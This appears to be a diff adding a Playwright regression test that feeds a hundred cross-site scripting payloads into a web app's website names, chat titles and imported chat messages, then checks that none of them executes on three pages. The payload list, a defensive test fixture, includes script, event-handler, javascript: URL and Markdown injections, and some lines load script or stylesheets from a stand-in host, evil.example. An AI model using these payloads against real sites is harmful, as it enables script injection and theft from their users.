@@ -1,0 +1,125 @@
+"""A hundred ways to smuggle a script into a text: none runs, wherever the text is shown."""
+
+import itertools
+from typing import Any
+
+from playwright.sync_api import BrowserContext, Page
+
+from tests.stacks import Person, Stack
+
+RUN = "window.hit=1"
+_CARRIERS = [
+    "<script>{run}</script>",
+    "<ScRiPt>{run}</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<svg/onload={run}>",
+    "<img src=x onerror={run}>",
+    "<img src=x onerror='{run}'>",
+    '<img src=x onerror="{run}"//',
+    "<body onload={run}>",
+    "<iframe src=javascript:{run}>",
+    "<iframe srcdoc='<script>parent.{run}</script>'>",
+    "<details open ontoggle={run}>",
+    "<input autofocus onfocus={run}>",
+    "<select autofocus onfocus={run}>",
+    "<video><source onerror={run}></video>",
+    "<audio src=x onerror={run}>",
+    "<marquee onstart={run}>",
+    "<object data=javascript:{run}>",
+    "<embed src=javascript:{run}>",
+    "<math><mi//xlink:href='data:x,<script>{run}</script>'>",
+    "<svg><script>{run}</script></svg>",
+    "<svg><animate onbegin={run} attributeName=x dur=1s>",
+    "<form><button formaction=javascript:{run}>x</button></form>",
+    "<a href=javascript:{run}>x</a>",
+    "<a href='&#106;avascript:{run}'>x</a>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
+    "<template><script>{run}</script></template>",
+    "<x onclick={run} style=position:fixed;inset:0>x</x>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
+    "[x](javascript:{run})",
+    "[x](JaVaScRiPt:{run})",
+    "[x](&#x6A;avascript:{run})",
+    "[x](java\tscript:{run})",
+    "[x](data:text/html,<script>{run}</script>)",
+    "[x](vbscript:{run})",
+    "![x](javascript:{run})",
+    '![x](x"onerror="{run})',
+    "[x]: javascript:{run}\n\n[x]",
+    "<javascript:{run}>",
+    '<https://x"onmouseover="{run}>',
+    '```html"><script>{run}</script>\nx\n```',
+    "```\n</code></pre><script>{run}</script>\n```",
+    "`</code><script>{run}</script>`",
+    "| a |\n|---|\n| <img src=x onerror={run}> |",
+    "# <img src=x onerror={run}>",
+    "> <script>{run}</script>",
+    "- <svg onload={run}>",
+]
+# Each alone, and each breaking out of a quoted attribute or an element that holds text.
+PAYLOADS = [
+    prefix + carrier.replace("{run}", RUN)
+    for carrier, prefix in itertools.product(_CARRIERS, ("", "\"'></textarea></title></script>"))
+]
+
+
+def test_nothing_runs_wherever_it_is_shown(
+    context: BrowserContext, stack: Stack, alice: Person, server: Any
+) -> None:
+    assert len(PAYLOADS) == 100
+    headers = {"Authorization": f"Bearer {alice.access_token}"}
+
+    def post(path: str, data: Any) -> Any:
+        response = context.request.post(path, data=data, headers=headers)
+        assert response.status == 201, response.text()
+        return response.json()
+
+    websites = [post("/api/websites", {"name": text[:120]})["website"]["id"] for text in PAYLOADS[:40]]
+    for text in PAYLOADS[:99]:
+        post("/api/chat/sessions", {"websiteId": websites[0], "title": text, "helper": "builder"})
+    messages = [{"role": role, "content": text} for text in PAYLOADS for role in ("user", "assistant")]
+    document = {
+        "format": "sitethread-chat", "version": 1, "messages": messages,
+        "session": {"title": PAYLOADS[1], "tags": [text[:40] for text in PAYLOADS[:10]]},
+    }  # fmt: skip
+    chat = post(f"/api/chat/import?websiteId={websites[0]}", document)["session"]["id"]
+    link = post(f"/api/chat/sessions/{chat}/shares", {})["share"]["url"]
+
+    page = context.new_page()
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    elsewhere: list[str] = []
+    page.on(
+        "request",
+        lambda request: (
+            elsewhere.append(request.url) if not request.url.startswith((server.url, "data:")) else None
+        ),
+    )
+    places = {
+        "/websites": "main li",
+        f"/websites/{websites[0]}/chats/{chat}": ".answer",
+        link: ".shared-text.rendered",
+    }
+    for path, shown in places.items():
+        page.goto(path)
+        page.locator(shown).first.wait_for()
+        _poke(page)
+        assert page.evaluate("window.hit") is None, path
+        assert not page.url.startswith("javascript:") and page.url.startswith(server.url)
+    assert (dialogs, elsewhere) == ([], [])
+
+
+def _poke(page: Page) -> None:
+    """Click and hover over what was shown, as far as it would do something."""
+    assert (
+        page.locator("main [onerror], main [onload], main [onclick], main a[href^='javascript:' i]").count()
+        == 0
+    )
+    page.evaluate(
+        "for (const e of document.querySelectorAll('main [tabindex], main input')) e.dispatchEvent(new Event('focus'))"
+    )
+    page.wait_for_timeout(200)
